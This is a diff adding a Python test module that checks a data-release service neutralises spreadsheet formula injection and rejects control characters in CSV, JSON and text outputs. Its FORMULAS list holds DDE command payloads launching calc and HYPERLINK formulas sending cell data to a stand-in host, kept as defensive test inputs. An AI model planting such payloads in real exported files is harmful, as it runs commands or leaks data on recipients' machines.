@@ -1,0 +1,175 @@
+"""Attacks by formulas: whatever begins as one leaves as a text, from every writer of tables; numbers stay numbers."""
+
+import csv
+import io
+import json
+import unicodedata
+from datetime import UTC, date, datetime
+from decimal import Decimal
+from typing import Any
+from unittest import mock
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from broker.disclosure.records.renderings import released_csv
+from broker.domain.csv_text import written_csv
+from broker.domain.errors import Invalid
+from broker.domain.findings import Assessment, Verdict
+from broker.domain.formulas import NUMBERS as NUMBER_LIKE
+from broker.domain.formulas import PARTS, inert, is_formula
+from broker.domain.handed import RowsProblem
+from broker.domain.jobs import Kind
+from broker.domain.messages import check_words
+from broker.domain.plain_text import check_plain, plain
+from broker.domain.ports import RegisterEntry
+from broker.web.register_files import releases_csv
+from broker.workflow.check import check_submission
+from tests.attacks.script_town import policies, project, rows, tabulated
+from tests.attacks.test_rows_as_carriers import labelled
+from tests.files import remake
+
+FORMULAS = [
+    "=1+1|cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&B2,"click")', '-HYPERLINK("http://x.example/?"&A1,"click")', "+ =HYPERLINK(1)",
+    "-1+1|cmd", "'=1+1", '"=1+1', " \t =1+1", "\r=1+1", "\u200b=cmd()", "\ufeff=cmd()", "\u202e=cmd()",
+    "\xa0=cmd()", "‘=cmd()", "＝cmd()", "﹦cmd()", "＋1+x", "﹢x", "－x+1", "﹣x+1", "＠SUM(1)", "﹫SUM(1)", "−1+cmd",
+    "⁻1+cmd", "⁼cmd", "x;=cmd()", "x\n=cmd()", "\u3164=cmd()", "\x1b=cmd()", "'''=cmd()", "=\u200bcmd()", "-1 to 0",
+    "%s=cmd()" % ("\u200b" * 50), "`=cmd()", "´@x", "«=x", "\u2800+x", "\ue000=x",
+]  # fmt: skip
+TEXTS = ["Barnet", "(-1, 0]", "A*", "=====", "+----+----+", "-", "--", "a = b", "5–9", "≥ 10", "mean -1", "x@y.example"]
+NUMBERS = ["-3.5", "+4", "-1e-07", "-£5", "-12.5%", "−3.5", "-1,000", "-0.5 3.2 -4"]
+
+
+def computes(cell: str) -> bool:
+    """Another reading of the same: what stands first, once all is folded that shows nothing, and all but one quote."""
+    bare = unicodedata.normalize("NFKC", cell).replace("−", "-")
+    return bare[:1] in {"=", "+", "-", "@", "\t", "\r"}
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_is_a_text_and_once_is_enough(text: str) -> None:
+    assert is_formula(text)
+    assert not any(computes(part) for part in inert(text).split(";"))
+    assert inert(inert(text)) == inert(text)
+
+
+@pytest.mark.parametrize("text", TEXTS + NUMBERS)
+def test_numbers_and_texts_stay(text: str) -> None:
+    assert inert(text) == text
+
+
+@given(st.text(st.sampled_from("=+-@'\"\t\r\n ;a1.％＝−\u200b\ufeff\xa0"), max_size=12))
+def test_nothing_changes_a_second_time(text: str) -> None:
+    assert inert(inert(text)) == inert(text)
+    parts = (part for part in PARTS.split(inert(text))[::2] if computes(part) and any(c.isalnum() for c in part))
+    assert all(NUMBER_LIKE.fullmatch(unicodedata.normalize("NFKC", part).replace("−", "-")) for part in parts)
+
+
+@pytest.mark.parametrize("ending", ["csv", "json", "txt"])
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_file_of_a_script_carries_one(text: str, ending: str) -> None:
+    written = {
+        "csv": lambda: written_raw([[text, "n"], [text + "b", "1"]]),
+        "json": lambda: json.dumps({text: [[text + "b"]]}).encode(),
+        "txt": lambda: text.encode(),
+    }
+    left = remake(f"t.{ending}", written[ending]()).content.decode()
+    cells = {
+        "csv": lambda: [c for row in csv.reader(io.StringIO(left)) for c in row],
+        "json": lambda: [c for k, v in json.loads(left).items() for c in (k, *v[0])],
+        "txt": left.splitlines,
+    }
+    assert cells[ending]()
+    assert not any(computes(part) for cell in cells[ending]() for part in cell.split(";"))
+
+
+def written_raw(lines: list[list[str]]) -> bytes:
+    target = io.StringIO()
+    csv.writer(target).writerows(lines)
+    return target.getvalue().encode()
+
+
+def test_a_typed_number_stays_one() -> None:
+    assert remake("t.csv", b"LA,m\nA,-3.5\n").content == b"LA,m\nA,-3.5\n"
+    assert json.loads(remake("t.json", b'[{"LA": "A", "m": -3.5}]').content) == [{"LA": "A", "m": -3.5}]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_released_table_carries_one(text: str) -> None:
+    row: Any = mock.Mock(released=(text, Decimal("-3.5")), suppressed=(False, False))
+    table = Assessment("t", (text, "m"), 1, (row,), (), Verdict.PUBLISH, False)
+    header, cells = csv.reader(io.StringIO(released_csv(table).decode()))
+    assert not any(computes(part) for cell in (*header, *cells[:1]) for part in cell.split(";"))
+    assert cells[1] == "-3.5"
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_register_carries_one(text: str) -> None:
+    entry = RegisterEntry("r", text, text, ("a.csv", text), datetime(2026, 11, 1, tzinfo=UTC), False)
+    for line in csv.reader(io.StringIO(releases_csv([entry]).decode(), newline="")):
+        assert not any(computes(part) for cell in line for part in cell.split(";"))
+
+
+def test_there_is_one_writer_of_tables() -> None:
+    assert written_csv(["=a()"], [["-x"], ["-3.5"]]) == b"'=a()\n'-x\n-3.5\n"
+
+
+QUERY = "SELECT {key} AS {name}, COUNT(*) AS n FROM npd.spring_census WHERE AcademicYear = '2022/2023' GROUP BY {key}"
+
+
+def refused(key: str = "LA", name: str = "la") -> list[str]:
+    found = check_submission(
+        QUERY.format(key=key, name=name), Kind.SQL, "tsql", project(), policies(), date(2026, 11, 26)
+    )
+    return [r.code for r in found.refusals]
+
+
+@pytest.mark.parametrize("text", [f for f in FORMULAS if f.isprintable() and "]" not in f])
+def test_such_aliases_and_labels_are_refused_at_check(text: str) -> None:
+    label = text.replace("'", "''")
+    assert set(refused(name=f"[{text}]")) in ({"formula"}, {"character"})
+    assert refused(key=f"CASE WHEN SENprovision = 'N' THEN '{label}' ELSE 'x' END") in (["formula"], ["character"])
+
+
+def test_what_a_condition_compares_with_is_no_label() -> None:
+    assert refused(key="CASE WHEN SENprovision = '=1+x' THEN 'yes' ELSE '-' END") == []
+
+
+@pytest.mark.parametrize("label", ["=HYPERLINK(1)", "-1+1", "+a", "@x1", "'=x1", "-1 to 0"])
+def test_such_labels_of_handed_rows_are_refused(label: str) -> None:
+    assert tabulated(labelled(["primary", label]), by=["label"])[0].problem is RowsProblem.VALUES
+
+
+def test_bands_of_numbers_are_labels() -> None:
+    assert tabulated(labelled(["-1", "(-1, 0]", "-"]), by=["label"])[0].problem is None
+    assert rows().num_rows
+
+
+CONTROLS = ["\x1b[2J", "\x07", "\u202e", "\u2066", "\u200f", "\ufeff", "\x9b", "\u2028", "\U000e0041"]
+
+
+@pytest.mark.parametrize("mark", CONTROLS)
+def test_control_characters_are_refused_where_people_write(mark: str) -> None:
+    for check in (lambda t: check_plain(t, "title", "/title"), lambda t: check_words(t, "/text")):
+        with pytest.raises(Invalid) as refused:
+            check(f"a{mark}b")
+        assert f"U+{ord(mark[0]):04X}" in refused.value.message
+
+
+@pytest.mark.parametrize("text", ["Ynys Môn — 5–9", "café\xa0au lait", "می\u200cخواهم"])
+def test_words_of_people_are_taken(text: str) -> None:
+    check_plain(text, "title", "/title")
+
+
+def test_lines_stand_where_lines_may() -> None:
+    check_plain("a\nb", "purpose", "/purpose", lines=True)
+    with pytest.raises(Invalid):
+        check_plain("a\nb", "title", "/title")
+
+
+@pytest.mark.parametrize("mark", CONTROLS)
+def test_a_log_for_staff_moves_no_cursor(mark: str) -> None:
+    assert mark[0] not in plain(f"one\n\t{mark}two\r\n")
+    assert plain("one\r\ntwo\n") == "one\ntwo\n"
